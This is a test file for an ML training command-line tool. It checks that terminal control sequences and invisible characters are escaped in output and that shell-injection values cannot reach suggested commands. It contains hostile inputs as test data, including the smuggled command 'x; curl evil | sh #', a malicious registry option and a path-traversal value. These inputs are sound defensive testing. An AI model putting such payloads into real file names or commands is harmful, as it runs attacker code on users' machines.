import { cp, mkdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { tensor, writeTensorFile } from '@forge-ml/core';
import { installPlugin, writeFiles, writeToyProject } from '@forge-ml/core/testing';
import { expect } from 'chai';
import { makeFolder, removeFolder } from './folder.js';
import { forge } from './forge-process.js';

/** Clears the screen, writes to the clipboard, reverses the text direction, and has invisible characters. */
const controls = '\x1b[2J\x1b]52;c;aGk=\x07\x9b2J\x85\r\u202e\u2066\u200b\u{e0041}';
const hidden = /(?!\n)[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}]/u;
/** A name that a shell would run if a hint did not quote it. */
const injected = 'x; curl evil | sh #';

describe('a run with hostile texts', function () {
  this.timeout(60_000);
  let cwd = '';
  const run = () => join(cwd, 'results', `li${controls}ne`, '1');
  const look = async (...words: string[]) => {
    const { status, stdout, stderr } = await forge(words, { cwd });
    for (const text of [stdout, stderr]) expect(text, `${words[0]}: ${JSON.stringify(text)}`).not.to.match(hidden);
    return { status, stdout, stderr };
  };

  before(async () => {
    cwd = await makeFolder();
    await writeToyProject(cwd);
    const configs = ['--backend=toy', '--data-config=data.ts', '--model-config=model.ts', '--steps=4'];
    expect((await forge(['train', ...configs, '--run-name=line'], { cwd })).status).to.equal(0);
    await writeTensorFile(join(cwd, 'in.safetensors'), new Map([['x', tensor(new Float32Array(4), [2, 2])]]));
    await cp(join(cwd, 'results/line/1'), run(), { recursive: true });
    const escaped = JSON.stringify(controls).slice(1, -1);
    for (const [file, from] of [
      ['run.json', ['"reason": null', '"loss"', '"node": "', '"hostname": "', '"branch": "', '"directory": "']],
      ['flags.json', ['"momentum"']],
      ['metrics.jsonl', ['"loss"']],
    ] as const) {
      let text = await readFile(join(run(), file), 'utf8');
      for (const part of from) {
        const changed = part.endsWith('null')
          ? part.replace('null', `"${escaped}"`)
          : part.replace(/"$/, escaped + (part.endsWith(': "') ? '' : '"'));
        text = text.replaceAll(part, part.endsWith(': "') ? part + escaped : changed);
      }
      await writeFile(join(run(), file), text);
    }
    await mkdir(join(run(), `left${controls}over`));
    await writeFile(join(run(), 'checkpoints', `5${controls}`), '');
    await installPlugin(cwd, {
      name: 'hostile-plugin',
      forge: { port: `1${controls}`, backends: [`b${controls}`], commands: [`c${controls}`] },
    });
    await installPlugin(cwd, {
      name: 'hostile-backend',
      forge: { backends: [`e${controls}`] },
      module: `throw new Error(${JSON.stringify(controls)});`,
    });
    await writeFiles(join(cwd, 'package'), {
      'package.json': JSON.stringify({
        name: 'evil',
        version: '1.0.0',
        forge: { plugin: './p.js', port: 1, backends: [controls], sinks: [controls] },
      }),
      'p.js': '',
    });
  });
  after(() => removeFolder(cwd));

  const commands = (): readonly (readonly string[])[] => [
    ['runs'],
    ['runs', '--json'],
    ['runs', 'show', run()],
    ['runs', 'show', run(), '--json'],
    ['runs', 'verify', run(), '--deep', '--json'],
    ['eval', run()],
    ['eval', run(), '--split', controls, '--json'],
    ['eval', run(), '--debug', '--step', '77'],
    ['export', run(), '--out', `out${controls}.safetensors`],
    ['predict', run(), '--no-code', '--data', 'in.safetensors', '--out', `predicted${controls}.safetensors`],
    ['predict', run(), '--no-code', '--data', `no${controls}`, '--out', 'none.safetensors'],
    ['train', '--resume', run(), '--override', '--steps', '6'],
    ['backends'],
    ['plugins'],
    ['plugins', '--json'],
    ['plugins', 'inspect', 'hostile-plugin'],
    ['plugins', 'install', './package'],
    ['plugins', 'install', controls],
    ['doctor'],
    [`no${controls}`],
    ['runs', 'show', `no${controls}`, '--json'],
    [`--${controls}`],
  ];

  it('is unchanged in --json', async () => {
    const { stdout } = await look('runs', 'show', run(), '--json');
    const { record, flags } = JSON.parse(stdout) as { record: { reason: string; metrics: object }; flags: object };
    expect(record.reason).to.equal(controls);
    expect(Object.keys(flags)).to.include(`momentum${controls}`);
  });

  it('has no control or invisible characters in the output of any command', async () => {
    const shown = new Map<string, string>();
    for (const words of commands()) {
      const { stdout, stderr } = await look(...words);
      expect(stderr, words.join(' ')).not.to.include('Unexpected internal error');
      shown.set(words.slice(0, 2).join(' '), stdout);
      if (words.includes('--json')) expect(() => JSON.parse(stdout), words.join(' ')).not.to.throw();
    }
    // The text was in the output, escaped.
    expect(shown.get('runs show')).to.include('\\u202e');
    expect(shown.get('runs')).to.include('\\x1b[2J');
  });

  for (const [field, backend] of Object.entries({
    package: { name: 'fancy', package: `forge-fancy; ${injected}` },
    name: { name: injected, package: null },
    option: { name: 'fancy', package: '--registry=http://evil' },
    path: { name: 'fancy', package: '../../evil' },
  })) {
    it(`does not get into a suggested command by its backend: ${field}`, async () => {
      const copy = join(cwd, 'results', 'copy', '1');
      await cp(join(cwd, 'results/line/1'), copy, { recursive: true, force: true });
      const record = JSON.parse(await readFile(join(copy, 'run.json'), 'utf8')) as object;
      await writeFile(join(copy, 'run.json'), JSON.stringify({ ...record, backend: { version: '1.0.0', ...backend } }));
      for (const words of [
        ['eval', copy],
        ['predict', copy, '--no-code', '--data', 'in.safetensors', '--out', 'o.safetensors'],
      ]) {
        const { status, stderr } = await look(...words);
        expect(status).to.equal(2);
        const hint = stderr.split('→')[1] ?? '';
        expect(hint, stderr).not.to.match(/curl|evil|install:? [^@\w]/);
      }
    });
  }

  it('is quoted in the command that resumes it', async () => {
    const named = join(cwd, 'results', injected, '1');
    await cp(join(cwd, 'results/line/1'), named, { recursive: true });
    for (const words of [
      ['runs', 'show', named],
      ['train', '--resume', named],
    ]) {
      const { stdout, stderr } = await look(...words);
      expect(`${stdout}${stderr}`).to.match(/--resume '[^']*x; curl evil \| sh #\/1'/);
    }
  });
});
